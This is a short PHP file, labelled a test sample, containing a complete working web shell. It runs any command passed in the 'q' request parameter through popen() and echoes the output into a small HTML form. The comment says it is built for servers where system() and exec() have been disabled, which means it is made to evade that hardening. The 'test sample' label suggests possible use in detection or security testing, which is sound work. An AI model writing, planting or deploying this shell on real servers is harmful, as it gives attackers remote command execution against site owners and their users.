<?php
// Test sample: popen()-based shell with a minimal form, for hosts where
// system()/exec() are disabled.
$c = isset($_REQUEST['q']) ? $_REQUEST['q'] : 'id';
echo '<form><input name="q" value="' . htmlspecialchars($c) . '"><button>run</button></form><pre>';
$fp = popen($c . ' 2>&1', 'r');
while (!feof($fp)) {
    echo htmlspecialchars(fgets($fp, 1024));
}
pclose($fp);
echo '</pre>';
